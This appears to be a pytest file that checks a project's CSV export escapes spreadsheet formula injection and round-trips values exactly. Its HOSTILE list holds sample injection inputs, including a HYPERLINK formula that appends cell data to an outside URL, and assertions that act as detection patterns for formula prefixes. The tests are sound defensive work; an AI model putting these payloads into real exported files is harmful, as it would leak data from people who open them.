"""What a spreadsheet makes of the CSV that kpoc writes, and that kpoc reads it back."""

import csv
import doctest
import io

import numpy as np
import pandas as pd
import pytest

from kpoc.evaluation import predictions
from kpoc.evaluation.comparison import Comparison
from kpoc.ground import csv_files
from kpoc.ground.csv_files import csv_for_people, exact, harmless

HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"a")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "a;=1+1",
    "two\n=1+1",
    "\uff1d1+1",
    "'=1",
    "''@x",
]
HARMLESS = ["a=b", "x-y", "Kind 3", "1-10", "'tis", "né", "", "[1, -2]"]


def cells(text, separator):
    """What spreadsheets of either locale find between their separators."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    ]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula(separator):
    table = pd.DataFrame(
        {
            "text": HOSTILE + HARMLESS,
            "figure": np.linspace(-1, 1, len(HOSTILE + HARMLESS)),
            "=name": "x",
        }
    )
    for cell in cells(csv_for_people(table), separator):
        assert cell[:1] not in tuple("=+-@\t\r\n\uff1d") or is_number(cell), cell


def test_numbers_and_harmless_texts_stay_as_they_are():
    table = pd.DataFrame(
        {"level": HARMLESS, "difference": -0.25, "n": -3, "sure": True, "who": None}
    )
    assert csv_for_people(table) == table.to_csv(index=False)
    mixed = pd.DataFrame({"drawn": [1, None, "=x", -2.5]}, dtype=object)
    assert csv_for_people(mixed) == 'drawn\n1\n""\n\'=x\n-2.5\n'


def test_examples():
    failed, tried = doctest.testmod(csv_files)
    assert tried and not failed


def test_each_text_comes_back():
    guarded = [harmless(text) for text in HOSTILE]
    assert [exact(text) for text in guarded] == HOSTILE
    assert len(set(guarded)) == len(HOSTILE)
    assert [exact(harmless(text)) for text in HARMLESS] == HARMLESS


def test_predictions_with_such_names_are_read_as_they_were(tmp_path):
    ids = [f"{text}.png" for text in HOSTILE]
    frame = pd.DataFrame({"id": ids, "-kind.=1": 0.25, "-kind.b": 0.75})
    read = predictions.read(predictions.write(frame, tmp_path / "theirs.csv"))
    pd.testing.assert_frame_equal(read, frame)
    assert "\n=" not in (tmp_path / "theirs.csv").read_text()


def test_the_tables_of_a_comparison_hold_no_formula(tmp_path):
    row = {"target": "kind", "metric": "f1", "group": "class", "better": "higher"}
    row |= {"side": "@a", "low": None, "high": None}
    rows = [{**row, "level": name} for name in HOSTILE]
    other = {"baseline": "b", "p": 0.5, "primary": False, "verdict": "unknown"}
    content = {
        **{"schema": 1, "title": "", "data": {}, "settings": {}, "targets": {}},
        "primary": {"target": "kind", "metric": "f1"},
        "sides": [{"name": "b"}, {"name": "@a"}],
        "scores": [each | {"n": 1, "estimate": -0.5} for each in rows],
        "differences": [each | other | {"difference": -0.5} for each in rows],
        "verdict": {"code": "unknown", "text": ""},
    }
    Comparison(content).save(tmp_path)
    for name in ("scores.csv", "differences.csv"):
        table = pd.read_csv(tmp_path / name)
        assert table["level"].map(exact).tolist() == HOSTILE
        assert not table["level"].str.contains(r"^[=+\-@\t\r\n\uff1d]").any()
        assert set(table["side"]) == {"'@a"}
